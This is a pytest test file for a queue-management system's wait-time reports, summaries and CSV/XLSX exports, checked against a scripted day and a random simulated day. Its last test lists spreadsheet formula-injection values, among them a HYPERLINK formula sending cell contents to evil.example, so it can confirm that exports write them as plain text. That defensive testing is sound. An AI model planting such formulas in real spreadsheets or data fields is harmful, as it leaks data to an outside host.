"""The wait-time log and summaries, checked to the second against a scripted day."""

from __future__ import annotations

import csv
import io
import random
import statistics
import zipfile
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from layso.models import Ticket, TicketStatus, User
from manager.export import EXPORT_COLUMNS

pytestmark = [
    pytest.mark.usefixtures("demo"),
    pytest.mark.parametrize(
        "backend", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)], indirect=True
    ),
]
HANOI = ZoneInfo("Asia/Ho_Chi_Minh")
D = "2026-11-21"


def t(hhmmss: str) -> str:
    """The hall-local time of the scripted day as the API writes it."""
    return datetime.fromisoformat(f"{D}T{hhmmss}").replace(tzinfo=HANOI).isoformat()


@pytest.fixture
def scripted(day: Any) -> dict[str, int]:
    """One morning: priority, recalls, a transfer, a no-show, a late ticket, ratings, a pause."""
    ids: dict[str, int] = {}
    day.at("08:00:00")
    ids["A"] = day.issue("TP")["id"]  # 1001
    day.at("08:02:00")
    ids["B"] = day.issue("TP")["id"]  # 1002
    day.at("08:03:00")
    ids["C"] = day.issue("CT")["id"]  # 2001
    day.at("08:04:00")
    ids["D"] = day.issue("TP", priority="NCT")["id"]  # 1003, priority
    day.at("08:05:00")
    ids["E"] = day.issue("DD")["id"]  # 3001, never called
    day.at("08:06:00")
    assert day.counter(2, "next")["id"] == ids["D"]  # strict policy: priority first
    day.at("08:06:40")
    day.counter(2, "recall")
    day.at("08:07:30")
    day.counter(2, "recall")
    day.at("08:08:00")
    day.counter(2, "start")
    day.at("08:10:00")
    assert day.counter(1, "next")["id"] == ids["A"]
    day.at("08:11:00")
    day.counter(1, "start")
    day.at("08:12:00")
    day.counter(3, "pause", {"reason": "Đi họp"})
    day.at("08:15:00")
    day.counter(2, "finish")
    day.at("08:15:10")
    day.rate(ids["D"], pad=2, score=4)
    day.at("08:16:00")
    day.counter(1, "transfer", {"service": "CT"})
    day.at("08:16:30")
    assert day.counter(2, "next")["id"] == ids["B"]
    day.at("08:18:00")
    day.counter(2, "no-show")
    day.at("08:20:00")
    assert day.counter(5, "next")["id"] == ids["A"]  # the transfer kept its place
    day.at("08:21:00")
    day.counter(5, "start")
    day.at("08:22:00")
    day.counter(3, "resume")
    day.at("08:25:00")
    day.counter(5, "finish")
    day.at("08:25:20")
    day.rate(ids["A"], pad=5, score=2)
    day.at("08:26:00")
    assert day.counter(1, "next")["id"] == ids["C"]
    day.at("08:27:00")
    day.counter(1, "start")
    day.at("08:30:00")
    day.counter(1, "finish")
    day.counter(4, "close")
    day.at("08:30:05")
    day.rate(ids["C"], pad=1, score=3)
    day.at("08:31:00")
    ids["F"] = day.issue("TP")["id"]  # 1004
    day.at("08:35:00")
    day.cancel(ids["F"])
    day.at("08:38:00")
    ids["G"] = day.issue("CT")["id"]  # 2002
    day.at("08:40:00")
    return ids


EXPECTED = {
    "A": {
        "display_number": "1001",
        "area": "TP",
        "served_area": "CT",
        "priority": None,
        "state": "done",
        "issued_at": t("08:00:00"),
        "first_called_at": t("08:10:00"),
        "recalls": [],
        "last_called_at": t("08:20:00"),
        "call_count": 2,
        "started_at": t("08:21:00"),
        "finished_at": t("08:25:00"),
        "no_show_at": None,
        "cancelled_at": None,
        "wait_s": 600,
        "walk_s": 60,
        "service_s": 240,
        "target_wait_s": 900,
        "late": False,
        "counter": 5,
        "clerk": "clerk5",
        "rating": 2,
        "rating_scale": 4,
    },
    "B": {
        "display_number": "1002",
        "area": "TP",
        "served_area": "TP",
        "state": "no_show",
        "issued_at": t("08:02:00"),
        "first_called_at": t("08:16:30"),
        "recalls": [],
        "last_called_at": t("08:16:30"),
        "started_at": None,
        "finished_at": None,
        "no_show_at": t("08:18:00"),
        "wait_s": 870,
        "walk_s": None,
        "service_s": None,
        "late": False,
        "counter": 2,
        "clerk": "clerk2",
        "rating": None,
    },
    "C": {
        "display_number": "2001",
        "area": "CT",
        "state": "done",
        "issued_at": t("08:03:00"),
        "first_called_at": t("08:26:00"),
        "last_called_at": t("08:26:00"),
        "started_at": t("08:27:00"),
        "finished_at": t("08:30:00"),
        "wait_s": 1380,
        "walk_s": 60,
        "service_s": 180,
        "target_wait_s": 600,
        "late": True,
        "counter": 1,
        "clerk": "clerk1",
        "rating": 3,
    },
    "D": {
        "display_number": "1003",
        "area": "TP",
        "priority": "NCT",
        "state": "done",
        "issued_at": t("08:04:00"),
        "first_called_at": t("08:06:00"),
        "recalls": [t("08:06:40"), t("08:07:30")],
        "last_called_at": t("08:07:30"),
        "call_count": 3,
        "started_at": t("08:08:00"),
        "finished_at": t("08:15:00"),
        "wait_s": 120,
        "walk_s": 30,  # the last call (08:07:30) counts for the walk
        "service_s": 420,
        "late": False,
        "counter": 2,
        "clerk": "clerk2",
        "rating": 4,
    },
    "E": {
        "display_number": "3001",
        "area": "DD",
        "state": "waiting",
        "first_called_at": None,
        "wait_s": None,
        "target_wait_s": 1200,
        "late": True,  # 35 minutes waiting at 08:40, target 20
        "counter": None,
        "clerk": None,
    },
    "F": {
        "display_number": "1004",
        "state": "cancelled",
        "cancelled_at": t("08:35:00"),
        "wait_s": None,
        "late": False,
        "counter": None,
        "clerk": None,
    },
    "G": {"display_number": "2002", "area": "CT", "state": "waiting", "late": False},
}


def report(api: Any, tokens: Callable, query: str = "") -> dict[str, Any]:
    status, body = api.get(f"reports/tickets?from={D}&to={D}&limit=1000{query}", tokens("manager"))
    assert status == 200, body
    return body


def test_log_has_every_time_and_duration_to_the_second(
    api: Any, tokens: Callable, scripted: dict[str, int]
) -> None:
    body = report(api, tokens)

    rows = {r["id"]: r for r in body["rows"]}
    assert body["total"] == 7
    assert [r["id"] for r in body["rows"]] == [scripted[k] for k in "ABCDEFG"]
    for key, expected in EXPECTED.items():
        row = rows[scripted[key]]
        for field, value in expected.items():
            assert row[field] == value, f"ticket {key}: {field}"
    transfer = rows[scripted["A"]]["transfers"]
    assert transfer == [
        {"at": t("08:16:00"), "from_counter": 1, "to_service": "CT", "to_counter": None}
    ]


def test_dates_default_to_today_in_the_halls_time_zone(
    api: Any, tokens: Callable, scripted: dict[str, int], clock: Any
) -> None:
    status, today = api.get("reports/tickets", tokens("manager"))
    clock.set_local("2026-11-22T06:59:00")  # 23:59 UTC on the 21st: already the 22nd in Hanoi
    _, tomorrow = api.get("reports/tickets", tokens("manager"))

    assert status == 200 and (today["from"], today["to"], today["total"]) == (D, D, 7)
    assert (tomorrow["from"], tomorrow["total"]) == ("2026-11-22", 0)


def test_summary_figures_to_the_second(api: Any, tokens: Callable, scripted: dict) -> None:
    status, body = api.get(f"reports/summary?from={D}&to={D}&by=service", tokens("manager"))

    assert status == 200
    total = body["total"]
    assert {k: total[k] for k in ("issued", "called", "served", "no_show", "cancelled")} == {
        "issued": 7,
        "called": 4,
        "served": 3,
        "no_show": 1,
        "cancelled": 1,
    }
    # waits 120, 600, 870, 1380: median (600+870)/2, p90 = 870 + 0.7 × (1380−870)
    assert (total["wait_median_s"], total["wait_p90_s"], total["wait_max_s"]) == (735, 1227, 1380)
    assert total["walk_mean_s"] == 50  # (60 + 60 + 30) / 3
    assert total["service_mean_s"] == 280  # (240 + 180 + 420) / 3
    # within target: A, B, D of 4 called; E never called but already late counts against
    assert (total["within_target"], total["within_target_rate"]) == (3, 0.6)
    assert total["no_show_rate"] == 0.25
    assert (total["rated"], total["satisfied"], total["satisfaction_rate"]) == (3, 2, 0.6667)
    assert total["ratings"] == {"4": 1, "3": 1, "2": 1}
    # the official three levels: 4 of 4 very satisfied, 3 satisfied, 2 and below dissatisfied
    assert total["official_ratings"] == {"very_satisfied": 1, "satisfied": 1, "dissatisfied": 1}
    assert (total["satisfaction_target"], total["meets_target"]) == (0.95, False)
    groups = {g["key"]: g for g in body["groups"]}
    assert list(groups) == ["TP", "CT", "DD"]
    tp, ct, dd = groups["TP"], groups["CT"], groups["DD"]
    assert (tp["issued"], tp["served"], tp["wait_median_s"], tp["wait_p90_s"]) == (4, 2, 600, 816)
    assert (tp["walk_mean_s"], tp["service_mean_s"], tp["within_target_rate"]) == (45, 330, 1.0)
    assert (tp["no_show_rate"], tp["satisfaction_rate"]) == (0.3333, 0.5)
    assert (ct["issued"], ct["wait_median_s"], ct["within_target_rate"]) == (2, 1380, 0.0)
    assert (ct["satisfaction_rate"], ct["meets_target"]) == (1.0, True)
    assert (dd["issued"], dd["called"], dd["within_target_rate"], dd["late"]) == (1, 0, 0.0, 1)
    assert groups["TP"]["label"] == "Tư pháp - Hộ tịch"


def test_summary_by_counter_with_open_serving_and_idle_time(
    api: Any, tokens: Callable, scripted: dict
) -> None:
    status, body = api.get(f"reports/summary?from={D}&to={D}&by=counter", tokens("manager"))

    assert status == 200
    g = {x["key"]: x for x in body["groups"]}
    assert sorted(g) == [1, 2, 3, 4, 5]
    # all open from 08:00 (seed) to 08:40 (now); counter 3 paused 08:12–08:22; 4 closed 08:30
    assert {n: (x["open_s"], x["serving_s"], x["idle_s"]) for n, x in g.items()} == {
        1: (2400, 480, 1920),  # A 08:11–08:16 (transferred), C 08:27–08:30
        2: (2400, 420, 1980),  # D 08:08–08:15
        3: (1800, 0, 1800),
        4: (1800, 0, 1800),
        5: (2400, 240, 2160),  # A 08:21–08:25
    }
    assert (g[2]["issued"], g[2]["wait_median_s"], g[2]["wait_p90_s"]) == (2, 495, 795)
    assert (g[2]["no_show_rate"], g[2]["satisfaction_rate"]) == (0.5, 1.0)
    assert (g[5]["issued"], g[5]["service_mean_s"], g[5]["satisfaction_rate"]) == (1, 240, 0.0)
    assert (g[3]["issued"], g[3]["wait_median_s"]) == (0, None)
    assert (body["total"]["open_s"], body["total"]["serving_s"]) == (10800, 1140)
    assert body["total"]["idle_s"] == 9660


def test_summary_by_clerk_hour_and_day(api: Any, tokens: Callable, scripted: dict) -> None:
    _, by_clerk = api.get(f"reports/summary?from={D}&to={D}&by=clerk", tokens("manager"))
    _, by_hour = api.get(f"reports/summary?from={D}&to={D}&by=hour", tokens("manager"))
    _, by_day = api.get(f"reports/summary?from={D}&to={D}&by=day", tokens("manager"))

    clerks = {x["key"]: x for x in by_clerk["groups"]}
    assert (clerks["clerk1"]["open_s"], clerks["clerk1"]["serving_s"]) == (2400, 480)
    assert (clerks["clerk4"]["open_s"], clerks["clerk4"]["idle_s"]) == (1800, 1800)
    assert clerks["clerk1"]["label"] == "Cán bộ quầy 1"
    assert [(x["key"], x["label"], x["issued"]) for x in by_hour["groups"]] == [
        (8, "08:00–09:00", 7)
    ]
    assert [(x["key"], x["issued"], x["served"]) for x in by_day["groups"]] == [(D, 7, 3)]
    assert by_day["total"]["wait_median_s"] == 735


@pytest.mark.parametrize(
    ("query", "keys"),
    [
        ("&service=TP", "ABDF"),
        ("&counter=2", "BD"),
        ("&clerk=clerk5", "A"),
        ("&status=done", "ACD"),
        ("&status=no_show", "B"),
        ("&late_only=true", "CE"),
        ("&service=CT&late_only=1", "C"),
    ],
)
def test_log_filters(
    api: Any, tokens: Callable, scripted: dict[str, int], query: str, keys: str
) -> None:
    body = report(api, tokens, query)

    assert [r["id"] for r in body["rows"]] == [scripted[k] for k in keys]
    assert body["total"] == len(keys)


def test_log_pages(api: Any, tokens: Callable, scripted: dict[str, int]) -> None:
    _, first = api.get(f"reports/tickets?from={D}&limit=3", tokens("manager"))
    _, third = api.get(f"reports/tickets?from={D}&limit=3&page=3", tokens("manager"))
    _, offset = api.get(f"reports/tickets?from={D}&limit=2&offset=5", tokens("manager"))

    assert [r["id"] for r in first["rows"]] == [scripted[k] for k in "ABC"]
    assert first["total"] == 7
    assert [r["id"] for r in third["rows"]] == [scripted["G"]]
    assert [r["id"] for r in offset["rows"]] == [scripted[k] for k in "FG"]


def _plain(value: Any, kind: str) -> Any:
    if kind == "times":
        return "; ".join(value)
    if kind == "bool":
        return "1" if value else "0"
    return "" if value is None else str(value)


def test_csv_has_the_same_rows_as_json_with_a_bom(
    client: Any, api: Any, tokens: Callable, scripted: dict[str, int]
) -> None:
    rows = report(api, tokens)["rows"]
    r = client.get(
        f"/api/v1/halls/demo/reports/tickets?from={D}&format=csv",
        headers={"Authorization": f"Bearer {tokens('manager')}"},
    )

    assert r.status_code == 200
    assert r.mimetype == "text/csv" and "attachment" in r.headers["Content-Disposition"]
    assert r.data.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(r.data[3:].decode("utf-8"))))
    assert parsed[0][2] == "Số thứ tự / Number"  # Vietnamese survives the round trip
    assert len(parsed) == 1 + len(rows)
    for line, row in zip(parsed[1:], rows, strict=True):
        assert line == [_plain(row[key], kind) for key, _vi, _en, kind in EXPORT_COLUMNS]


def test_xlsx_has_the_same_rows_as_json(
    client: Any, api: Any, tokens: Callable, scripted: dict[str, int]
) -> None:
    rows = report(api, tokens, "&service=TP")["rows"]
    r = client.get(
        f"/api/v1/halls/demo/reports/tickets?from={D}&service=TP&format=xlsx",
        headers={"Authorization": f"Bearer {tokens('manager')}"},
    )

    assert r.status_code == 200 and r.data[:2] == b"PK"
    sheet = load_workbook(io.BytesIO(r.data)).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][2] == "Số thứ tự / Number"
    assert len(values) == 1 + len(rows) == 5
    for line, row in zip(values[1:], rows, strict=True):
        for cell, (key, _vi, _en, kind) in zip(line, EXPORT_COLUMNS, strict=True):
            value = row[key]
            if kind == "time":
                expected = datetime.fromisoformat(value).replace(tzinfo=None) if value else None
            elif kind == "times":
                expected = "; ".join(value) or None
            elif kind == "bool":
                expected = bool(value)
            else:
                expected = value
            assert cell == expected, key


def test_figures_come_from_the_event_log_not_the_ticket_rows(
    api: Any, tokens: Callable, scripted: dict[str, int], db: Any, clock: Any
) -> None:
    before = report(api, tokens)["rows"]
    _, summary_before = api.get(f"reports/summary?from={D}&by=counter", tokens("manager"))
    with db.write() as s:  # scribble over every time column of every ticket
        for ticket in s.scalars(sa.select(Ticket)):
            ticket.first_called_at = ticket.called_at = clock() - timedelta(days=3)
            ticket.started_at = ticket.finished_at = clock() + timedelta(hours=5)
            ticket.status = TicketStatus.HELD
            ticket.call_count = 99

    assert report(api, tokens)["rows"] == before
    assert api.get(f"reports/summary?from={D}&by=counter", tokens("manager"))[1] == summary_before


@pytest.mark.parametrize(
    "query",
    [
        "from=2026-13-01",
        "from=21/11/2026",
        "from=2026-11-21&to=2026-11-20",
        "from=2025-01-01&to=2026-11-21",
        "format=pdf",
        "status=lost",
        "limit=0",
        "limit=5000",
        "counter=abc",
        "late_only=maybe",
    ],
)
def test_bad_report_queries_are_400(api: Any, tokens: Callable, query: str) -> None:
    status, body = api.get(f"reports/tickets?{query}", tokens("manager"), lang="en")

    assert status == 400 and body["error"]["code"] == "bad_request"
    assert body["error"]["message"]


def test_bad_summary_grouping_is_400(api: Any, tokens: Callable) -> None:
    status, body = api.get("reports/summary?by=week", tokens("manager"))

    assert status == 400 and "'by'" in body["error"]["message"]


def test_a_ticket_issued_on_one_day_belongs_to_that_day(
    api: Any, tokens: Callable, day: Any
) -> None:
    day.date = "2026-11-20"
    day.at("23:58:00")
    ticket = day.issue("TP")
    day.date = "2026-11-21"
    day.at("00:03:00")
    day.counter(2, "next")

    _, on_20 = api.get("reports/tickets?from=2026-11-20", tokens("manager"))
    _, on_21 = api.get("reports/tickets?from=2026-11-21", tokens("manager"))

    assert [r["id"] for r in on_20["rows"]] == [ticket["id"]]
    assert on_20["rows"][0]["wait_s"] == 300
    assert on_21["total"] == 0


# --- an independent recomputation over a random day ------------------------------------------


def _quantile(xs: list[int], p: float) -> float | None:
    if not xs:
        return None
    if len(xs) == 1:
        return float(xs[0])
    return statistics.quantiles(xs, n=10, method="inclusive")[int(p * 10) - 1]


def test_random_day_matches_a_model_kept_by_the_test(
    api: Any, tokens: Callable, day: Any, clock: Any
) -> None:
    """Drive a random day; keep our own record of every call and step; compare everything."""
    rng = random.Random(20261121)
    model: dict[int, dict[str, Any]] = {}
    current: dict[int, int | None] = {n: None for n in range(1, 6)}
    day.at("07:30:00")
    for _ in range(220):
        clock.advance(rng.randint(1, 240))
        now = clock()
        roll = rng.random()
        if roll < 0.35:
            tk = day.issue(rng.choice(["TP", "CT", "DD", "LD", "KD", "XD"]))
            model[tk["id"]] = {
                "issued": now,
                "calls": [],
                "starts": [],
                "end": None,
                "state": "waiting",
                "counter": None,
                "rating": None,
            }
            continue
        n = rng.randint(1, 5)
        cur = current[n]
        if cur is None:
            tk = day.counter(n, "next")
            if tk is not None:
                m = model[tk["id"]]
                m["calls"].append(now)
                m["state"], m["counter"], current[n] = "called", n, tk["id"]
            continue
        m = model[cur]
        if m["state"] == "called":
            action = rng.choice(["recall", "start", "start", "no-show"])
        else:
            action = rng.choice(["finish", "finish", "finish", "transfer"])
        day.counter(n, action, {"service": "CT"} if action == "transfer" else None)
        if action == "recall":
            m["calls"].append(now)
        elif action == "start":
            m["starts"].append(now)
            m["state"] = "serving"
        elif action == "no-show":
            m["state"], m["end"], current[n] = "no_show", now, None
        elif action == "transfer":
            m["state"], current[n] = "waiting", None
        else:
            m["state"], m["end"], current[n] = "done", now, None
            if rng.random() < 0.7:
                m["rating"] = rng.randint(1, 4)
                day.rate(cur, pad=n, score=m["rating"])

    def secs(a: datetime, b: datetime) -> int:
        return round((b - a).total_seconds())

    expected = {}
    for tid, m in model.items():
        last_call_before_start = [c for c in m["calls"] if m["starts"] and c <= m["starts"][-1]]
        expected[tid] = {
            "state": m["state"],
            "wait_s": secs(m["issued"], m["calls"][0]) if m["calls"] else None,
            "walk_s": secs(last_call_before_start[-1], m["starts"][-1]) if m["starts"] else None,
            "service_s": secs(m["starts"][-1], m["end"])
            if m["state"] == "done" and m["starts"]
            else None,
            "call_count": len(m["calls"]),
            "counter": m["counter"],
            "rating": m["rating"],
        }
    body = report(api, tokens)
    got = {r["id"]: {k: r[k] for k in expected[r["id"]]} for r in body["rows"]}
    assert got == expected

    waits = [e["wait_s"] for e in expected.values() if e["wait_s"] is not None]
    services = [e["service_s"] for e in expected.values() if e["service_s"] is not None]
    ratings = [e["rating"] for e in expected.values() if e["rating"] is not None]
    _, summary = api.get(f"reports/summary?from={D}&by=day", tokens("manager"))
    total = summary["total"]
    assert total["issued"] == len(model)
    assert total["wait_median_s"] == pytest.approx(statistics.median(waits), abs=0.05)
    assert total["wait_p90_s"] == pytest.approx(_quantile(waits, 0.9), abs=0.05)
    assert total["service_mean_s"] == pytest.approx(statistics.mean(services), abs=0.05)
    assert total["satisfaction_rate"] == pytest.approx(
        sum(r >= 3 for r in ratings) / len(ratings), abs=0.0001
    )
    assert len(waits) > 30 and len(services) > 15 and len(ratings) > 8  # the day was busy


@pytest.mark.parametrize(
    ("scale", "expected"),
    [
        (3, ["very_satisfied", "satisfied", "dissatisfied"]),
        (4, ["very_satisfied", "satisfied", "dissatisfied", "dissatisfied"]),
        (5, ["very_satisfied", "satisfied", "dissatisfied", "dissatisfied", "dissatisfied"]),
    ],
)
def test_any_scale_maps_onto_the_official_three_levels(scale: int, expected: list[str]) -> None:
    from layso.services.ratings import official_level

    assert [official_level(score, scale) for score in range(scale, 0, -1)] == expected


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_formula_like_names_are_written_as_text_in_csv_and_xlsx(
    client: Any, db: Any, tokens: Callable, scripted: dict[str, int], name: str
) -> None:
    with db.write() as s:
        s.execute(sa.update(User).values(full_name=name))
    headers = {"Authorization": f"Bearer {tokens('manager')}"}
    url = f"/api/v1/halls/demo/reports/tickets?from={D}&service=TP&format="

    csv_rows = list(csv.reader(io.StringIO(client.get(url + "csv", headers=headers).text[1:])))
    col = [key for key, *_ in EXPORT_COLUMNS].index("clerk_name")
    names = {line[col] for line in csv_rows[1:] if line[col]}
    assert names == {"'" + name}

    data = client.get(url + "xlsx", headers=headers).data
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets), "a live formula"
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[col] for row in sheet.iter_rows(min_row=2) if row[col].value]
    assert cells and all(c.data_type == "s" and c.value.strip() == name.strip() for c in cells)
    assert all(c.quotePrefix for c in cells)
    number_col = [key for key, *_ in EXPORT_COLUMNS].index("counter")
    counters = [row[number_col].value for row in sheet.iter_rows(min_row=2)]
    assert any(isinstance(v, int) for v in counters), "numbers stay numbers"
